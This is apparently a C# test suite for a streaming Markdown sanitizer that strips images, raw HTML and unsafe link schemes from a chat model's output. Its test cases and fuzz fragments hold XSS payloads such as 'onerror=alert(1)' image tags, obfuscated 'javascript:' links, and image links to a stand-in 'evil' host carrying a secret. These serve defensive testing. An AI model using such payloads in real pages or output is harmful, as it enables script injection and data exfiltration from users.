using System.Text;
using System.Text.RegularExpressions;
using ChatBackend.Infrastructure.Ai.Safety;
using FsCheck;
using FsCheck.Fluent;
using Markdig;
using Markdig.Extensions.GenericAttributes;
using Markdig.Syntax;
using Markdig.Syntax.Inlines;

namespace ChatBackend.Tests.Infrastructure.Ai.Safety;

public sealed partial class SafeMarkdownTests
{
    /// <summary>Pages with and without tables, formulas, containers and bare addresses. Attributes in braces are beyond the promise.</summary>
    private static readonly MarkdownPipeline[] Pages =
    [
        new MarkdownPipelineBuilder().Build(),
        new MarkdownPipelineBuilder().UsePipeTables().UseAutoLinks().UseEmphasisExtras().UseTaskLists().UseFootnotes().Build(),
        new MarkdownPipelineBuilder().UseMathematics().UsePipeTables().Build(),
        WithoutAttributes(new MarkdownPipelineBuilder().UseAdvancedExtensions()).Build(),
    ];

    /// <summary>What an attack is made of, and what may hide it from one parser or another.</summary>
    private static readonly string[] Fragments =
    [
        "[", "]", "(", ")", "![", "](", "]: ", "][", "!", ":", "<", ">", "</", "<!--", "-->", "<![CDATA[", "<?", "\\", "`", "``", "```", "~~~", "$", "$$", @"\[", @"\]", @"\(", "|", "{", "}", "&", ";",
        "<img src=x onerror=alert(1)>", "<b>", "<details>", "List<int>", "a < b", "<http://h/>", "<javascript:x>", "<a@b.c>",
        "javascript:alert(1)", "&#106;avascript:x", "java&Tab;script&colon;x", "java\nscript:x", "JaVaScRiPt:x", "data:text/html,x", "http://evil/?q=1", "//evil/", "mailto:a@b.c", "ftp://x", "tel:1", "www.x.org/",
        "![x](http://evil/)", "![](u)", "[](javascript:1)", "[z](vbscript:1)", "[ok](/a)", "[x]", "[a][x]", "![x]", "[x]: ", "[^1]", "[^1]: ", "(<", ">)", "(/u)", "(javascript:1)",
        "\n", "\n", "\n\n", "\n    ", "\n   ", "\n\t", " ", "  ", "> ", "- ", "1. ", "2. ", "# ", "\n---\n", "\n===\n", ":::", "^^^", "\n| a |\n|---|\n",
        "\n```\n", "\n```py\n", "\n   ```\n", "\n> ```\n", "\n- ```\n", "\n     ```\n", "\n~~~\n", "\n$$\n", "\n\\[\n", "\n\\]\n", "\n- a\n", "\n1. a\n", "\n> a\n", "\n[a\n", "b]: /x\n", "`b]: javascript:alert(1)//`",
        "a", "x y", " \"t\"", "'", "\"", "\r", "\0", "\u200b", "&lt;", @"\<", @"\`", @"\!", "نوڈ",
    ];

    public static TheoryData<string, string> Cases => new()
    {
        // Images
        { "![x](http://evil/?q=secret)", "x" },
        { "See ![a *b* `c`](http://evil/ \"t\") here", "See a *b* `c` here" },
        { "![x][r], ![r][], ![r]\n\n[r]: http://evil/", "x, r, r\n\n[r]: http://evil/" },
        { "[![alt](http://evil/)](http://ok/)", "[alt](http://ok/)" },
        { "![![in](u)](v) ![](u)[x](http://e/) !![](u)[x](http://e/)", "in [x](http://e/) !&#91;x](http://e/)" },
        { "![a\nb](http://evil/)", "a b" },
        { "It walks![1][2] Look![^3]", "It walks! [1][2] Look! [^3]" },
        { "![open", "!&#91;open" },
        { @"\![x](http://e/) !\[x](http://e/)", @"&#33;[x](http://e/) !&#91;x](http://e/)" },
        { @"\!\[x\](http://e/) \[x\](javascript:1)", @"&#33;\[x\](http://e/) \[x\](javascript:1)" },

        // Links
        { "[a](http://h/a?b=1&c=2#d) [a](https://h \"T\") [a](mailto:a@b.c) [a](HTTPS://H)", "[a](http://h/a?b=1&c=2#d) [a](https://h \"T\") [a](mailto:a@b.c) [a](HTTPS://H)" },
        { "[a](/docs/a) [a](../a.md) [a](#b) [a](?q=1) [a](//other.example/) [a]() [a](</b c>)", "[a](/docs/a) [a](../a.md) [a](#b) [a](?q=1) [a](//other.example/) [a]() [a](/b%20c)" },
        { "[a](javascript:alert(1)) [a](JAVASCRIPT:x) [a](data:text/html,x) [a](vbscript:x) [a](file:///etc) [a](<javascript:x>) [a](x:y)", "a a a a a a a" },
        { "[a](&#106;avascript:x) [a](&#x6A;avascript:x) [a](&#106avascript:x) [a](javascript&colon;x) [a](java&Tab;script:x) [a](java&NewLine;script:x)", "a a a a a a" },
        { "[a](javascript%3Ax) [a](%6Aavascript:x) [a](javascript\\:x) [a](&amp;#106;avascript:x) [a](java\u200bscript:x) [a](\u0001javascript:x)", "a a a a a a" },
        { "[a](\njavascript:x) [a](java\nscript:x)", "a [a]&#40;java\nscript:x)" },
        { "[a [b](javascript:x) c](javascript:y) [[a](javascript:x)](http://ok/)", "a b c [a](http://ok/)" },
        { "[`a]b`](http://ok/`x`) [a](http://ok/A_(b)) [a](http://ok/ 'x') [a](http://ok/ \"<b>\")", "[`a]b`](http://ok/%60x%60) [a](http://ok/A_%28b%29) [a](http://ok/ \"x\") [a](http://ok/)" },
        { "[a](see below) a[i](x y) [open](http://h", "[a]&#40;see below) a[i]&#40;x y) [open]&#40;http://h" },
        { "[ربط](/docs/نوڈز) [链接](/文)", "[ربط](/docs/نوڈز) [链接](/文)" },

        // Definitions and addresses
        { "[x][a] [a]\n\n[a]: javascript:alert(1)\n[b]: <data:x>\n[c]:\n  vbscript:x\n[d]: &#106;avascript:x 't'", "[x][a] [a]\n\n[a]&#58; javascript:alert(1)\n[b]&#58; &lt;data:x>\n[c]&#58;\n  vbscript:x\n[d]&#58; &#106;avascript:x 't'" },
        { "[x][a]\n\n[a]: https://ok/a\n[b]: /b \"B\"\n[c]: <http://ok/>", "[x][a]\n\n[a]: https://ok/a\n[b]: /b \"B\"\n[c]: <http://ok/>" },
        { "> [a]: javascript:x\n\n- [b]: javascript:x\n[^1]: javascript:x", "> [a]&#58; javascript:x\n\n- [b]&#58; javascript:x\n[^1]&#58; javascript:x" },
        { "As in [1]: note: this. So [2]:\n\nText[^1].\n\n[^1]: Note: more", "As in [1]: note: this. So [2]:\n\nText[^1].\n\n[^1]: Note: more" },
        { "[a `b]: javascript:alert(1)//`\n\n[x][a `b] `", "[a &#96;b]&#58; javascript:alert(1)//&#96;\n\n[x][a `b] `" },
        { "<http://h/a?b=1> <mailto:a@b.c> <a@b.c> <javascript:x> <ftp://h/>", "<http://h/a?b=1> <mailto:a@b.c> <a@b.c> &lt;javascript:x> &lt;ftp&#58;//h/>" },
        { "http://h/a_b www.h.org a@b.c ftp://h tel:1 hotel: std::cout", "http://h/a_b www.h.org a@b.c ftp&#58;//h tel&#58;1 hotel: std::cout" },

        // Tags
        { "a <b>bold</b> <br/> <Tabs> <!-- c --> <![CDATA[x]]> <?x?> <x-y:z>", "a &lt;b>bold&lt;/b> &lt;br/> &lt;Tabs> &lt;!-- c --> &lt;CDATA[x]> &lt;?x?> &lt;x-y:z>" },
        { "<img src=x onerror=alert(1)>\n<script\nsrc=x", "&lt;img src=x onerror=alert(1)>\n&lt;script\nsrc=x" },
        { @"\<img src=x> \\<img src=x>", @"&lt;img src=x> \\&lt;img src=x>" },
        { "List<int> and Dictionary<string, List<int>> and a<b", "List&lt;int> and Dictionary&lt;string, List&lt;int>> and a&lt;b" },
        { "a < b, x <= y, 1 << 2, p <- q, I <3 it, 5<6, &lt;b> &amp;", "a < b, x <= y, 1 << 2, p <- q, I <3 it, 5<6, &lt;b> &amp;" },
        { "<[img src=x](javascript:1)>", "&lt;img src=x>" },

        // Code
        { "`List<int>`, ``a ` <b>``, `![x](y)`, `[x]: y`, ``` <b> ```", "`List<int>`, ``a ` <b>``, `![x](y)`, `[x]: y`, ``` <b> ```" },
        { "A stray ` tick <img src=x>\n\n`code` and ``open <b>`", "A stray &#96; tick &lt;img src=x>\n\n`code` and &#96;&#96;open &lt;b>&#96;" },
        { "`a\n<img src=x>`", "&#96;a\n&lt;img src=x>&#96;" },
        { @"\`<img src=x>`", "&#96;&lt;img src=x>&#96;" },
        { "| a | `x | y` |\n|---|---|\n| `<a>` | `b | <img>` |\n| `c \\| <d>` |", "| a | `x | y` |\n|---|---|\n| `<a>` | &#96;b | &lt;img>&#96; |\n| `c \\| <d>` |" },
        { "http://h/`<img src=x>`", "http://h/&#96;&lt;img src=x>&#96;" },
        { "$ `$<img src=x>` {x=` } <img src=x>`", "$ &#96;$&lt;img src=x>` {x=` } &lt;img src=x>&#96;" },
        { "```python\nx = a[1]  # <b> ![x](y) `\n    if a < b: pass\n```\nSo <b>", "```python\nx = a[1]  # <b> ![x](y) `\n    if a < b: pass\n```\nSo &lt;b>" },
        { "~~~html\n<b>\n```\n~~~\n<i>\n\n```\n<u>", "~~~html\n<b>\n```\n~~~\n&lt;i>\n\n```\n<u>" },
        { "````md\n```\n<b>\n```\n````", "````md\n```\n<b>\n```\n````" },
        { "1. Do:\n   ```cpp\n   vector<int> v;\n\n   f();\n   ```\n2. Then <b>", "1. Do:\n   ```cpp\n   vector<int> v;\n\n   f();\n   ```\n2. Then &lt;b>" },
        { "1. Do:\n   ```cpp\nvector<int> v;\n```\n", "1. Do:\n   ```cpp\n   vector<int> v;\n   ```\n" },
        { "- a\n  - b\n    ```\n    <b>\n    ```", "- a\n  - b\n\n    ```\n    <b>\n    ```" },
        { "> ```\n> <b>\n> ```\n> <i>", "> ```\n> <b>\n> ```\n> &lt;i>" },
        { "> ```\n> <b>\n<img src=x>", "> ```\n> <b>\n> ```\n&lt;img src=x>" },
        { "- ```\n<img src=x>\n```", "- ```\n  <img src=x>\n  ```" },
        { "a\n2. ```\n<img src=x>\n```", "a\n\n2. ```\n   <img src=x>\n   ```" },
        { "```<img src=x> ![a](b)\n```", "```img src=x ab\n```" },
        { $"```\n{new string('`', 400)}\n<img src=x>", $"```\n```\n{new string('`', 100)}\n<img src=x>" },
        { "    indented <b>", "    indented &lt;b>" },
        { ":::tip\n```\n:::\n<img src=x>", "::&#58;tip\n```\n:::\n<img src=x>" },
        { "^^^\n```\n^^^\n<img src=x>", "^^&#94;\n```\n^^^\n<img src=x>" },
        { "- [~~~](javascript:1)\n  ~~~\n  <img src=x>", "- ~~&#126;\n  ~~~\n  <img src=x>" },

        // Formulas
        { "$a<b$, $x^2$, $f[0](x)$ cost $5 or $6<b>; \\(a<b\\) \\[a<b\\] $$a<b$$", "$a< b$, $x^2$, $f[0] (x)$ cost $5 or $6&lt;b>; \\(a< b\\) \\[a< b\\] $$a< b$$" },
        { "$$\na<b \\\\\n[c] \\frac{1}{2}\n$$\n\n```\n<b>\n```", "$$\na< b \\\\\n{}[c] \\frac{1}{2}\n$$\n\n```\n<b>\n```" },
        { "1. So:\n   $$\n   a<b\n   $$\n\n`<b>`", "1. So:\n   $$\n   a< b\n   $$\n\n`<b>`" },
        { "\\[\na<b\n\\]\n`<b>`", "\\[\na< b\n\\]\n`<b>`" },
        { "$$\n```\n$$\n<img src=x>\n```", "$$\n```\n$$\n< img src=x>\n```" },
        { "It costs $$ and \\(open <b>", "It costs &#36;&#36; and &#40;open &lt;b>" },
        { "$![x](http://evil/)$ $<img src=x>$", "$! [x] (http://evil/)$ $< img src=x>$" },

        // Line ends and control characters
        { "a\r\nb\rc\u2028d\0e\u0007f\t", "a\nb\nc\nd" + "ef\t" },
        { "Zero [0, 1) and [ ] todo\n[0, 1) too", "Zero [0, 1) and [ ] todo\n&#91;0, 1) too" },
    };

    [Theory]
    [MemberData(nameof(Cases))]
    public void What_is_safe_stays_and_what_is_not_becomes_text(string text, string shown)
    {
        Assert.Equal(shown, Filter(text, text.Length));
        AssertSafe(shown);
        Assert.Equal(shown, Filter(shown, shown.Length));
    }

    [Theory]
    [MemberData(nameof(Cases))]
    public void Pieces_of_any_size_give_the_same_text(string text, string shown)
    {
        for (var size = 1; size <= text.Length; size++)
            Assert.Equal(shown, Filter(text, size));
    }

    [Fact]
    public void A_page_shows_no_image_tag_or_foreign_link_whatever_the_model_writes() =>
        Check.One(Config.QuickThrowOnFailure.WithMaxTest(400), Prop.ForAll(Hostile().ToArbitrary(), text =>
        {
            var shown = Filter(text, text.Length);
            AssertSafe(shown);
            AssertSafe(Filter(shown, shown.Length));
        }));

    [Fact]
    public void What_was_shown_of_an_answer_is_the_same_for_all_pieces_and_safe_at_every_moment() =>
        Check.One(Config.QuickThrowOnFailure.WithMaxTest(100), Prop.ForAll(Hostile().ToArbitrary(), Gen.Choose(1, 9).ListOf(8).ToArbitrary(), (text, sizes) =>
        {
            var filter = new SafeMarkdown();
            var shown = new StringBuilder();
            for (int start = 0, i = 0; start < text.Length; start += sizes[i++ % sizes.Count])
            {
                shown.Append(filter.Push(text[start..Math.Min(text.Length, start + sizes[i % sizes.Count])]));
                AssertSafe(shown.ToString());
            }

            Assert.Equal(Filter(text, text.Length), shown.Append(filter.Flush()).ToString());
        }));

    [Theory]
    [InlineData("[")]
    [InlineData("![")]
    [InlineData("[a](")]
    [InlineData("[a]: ")]
    [InlineData("[a]: x \"")]
    [InlineData("`")]
    [InlineData("$")]
    [InlineData("$$")]
    [InlineData("\\(")]
    [InlineData("<")]
    [InlineData("```")]
    [InlineData("> ```\n")]
    [InlineData("![a][")]
    public void What_is_held_back_is_bounded(string beginning)
    {
        const int MostHeld = 2_000;
        foreach (var rest in (string[])["a", " ", "[", "`", "<", "\\", "$", ">", "1. "])
        {
            var filter = new SafeMarkdown();
            var first = filter.Push(beginning).Length;
            var pushed = 0;
            var shown = 0;
            while (shown == 0 && pushed <= MostHeld)
            {
                shown = filter.Push(rest).Length;
                pushed += rest.Length;
            }

            Assert.True(shown > 0, $"{beginning} ({first} shown) then {rest}");
        }
    }

    [Theory]
    [InlineData(" ")]
    [InlineData("\t")]
    [InlineData("- ")]
    [InlineData("1. ")]
    public void Code_far_to_the_right_does_not_make_an_answer_many_times_as_long(string prefix)
    {
        var text = string.Concat(Enumerable.Repeat(prefix, 290 / prefix.Length)) + "```\n" + string.Concat(Enumerable.Repeat("x\n", 2_000));
        var shallower = text[^(4_000 + 4 + 34)..] + "<img src=x>\n```\n<img src=x>";

        Assert.InRange(Filter(text, text.Length).Length, text.Length, 20 * text.Length);
        AssertSafe(Filter(shallower, shallower.Length));
    }

    [Theory]
    [InlineData("Hello ", "Hello ")]
    [InlineData("**Nodes** talk", "**Nodes** talk")]
    [InlineData("a [1]", "a ")]
    [InlineData("a [1] ", "a [1] ")]
    [InlineData("```py\nx = <", "```py\nx = <")]
    [InlineData("a `b", "a ")]
    [InlineData("1", "")]
    [InlineData("1. a", "1. a")]
    public void Text_is_not_held_back_longer_than_it_must_be(string text, string shown) => Assert.Equal(shown, new SafeMarkdown().Push(text));

    private static Gen<string> Hostile() =>
        from few in Gen.Elements(Fragments).ListOf(8)
        from parts in Gen.Frequency((2, Gen.Elements(few.ToArray())), (1, Gen.Elements(Fragments))).ListOf()
        select string.Concat(parts);

    private static string Filter(string text, int size)
    {
        var filter = new SafeMarkdown();
        var shown = new StringBuilder();
        for (var start = 0; start < text.Length; start += size)
            shown.Append(filter.Push(text.Substring(start, Math.Min(size, text.Length - start))));
        return shown.Append(filter.Flush()).ToString();
    }

    private static void AssertSafe(string markdown)
    {
        foreach (var page in Pages)
        {
            var document = Markdown.Parse(markdown, page);
            Assert.Empty(document.Descendants<HtmlBlock>());
            Assert.Empty(document.Descendants<HtmlInline>());
            Assert.DoesNotContain(document.Descendants<LinkInline>(), link => link.IsImage);

            var html = document.ToHtml(page);
            Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
            foreach (Match link in Link().Matches(html))
                Assert.Matches(Allowed(), Uri.UnescapeDataString(System.Net.WebUtility.HtmlDecode(link.Groups["url"].Value)));
        }
    }

    private static MarkdownPipelineBuilder WithoutAttributes(MarkdownPipelineBuilder builder)
    {
        builder.Extensions.RemoveAll(e => e is GenericAttributesExtension);
        return builder;
    }

    [GeneratedRegex("""(?:href|src)="(?<url>[^"]*)""", RegexOptions.ExplicitCapture, matchTimeoutMilliseconds: 1_000)]
    private static partial Regex Link();

    /// <summary>One of the three schemes, or nothing that a browser takes for a scheme.</summary>
    [GeneratedRegex(@"^(?:https?:|mailto:|(?!\s*[a-z][a-z0-9+.\s-]*:))", RegexOptions.ExplicitCapture | RegexOptions.IgnoreCase, matchTimeoutMilliseconds: 1_000)]
    private static partial Regex Allowed();
}
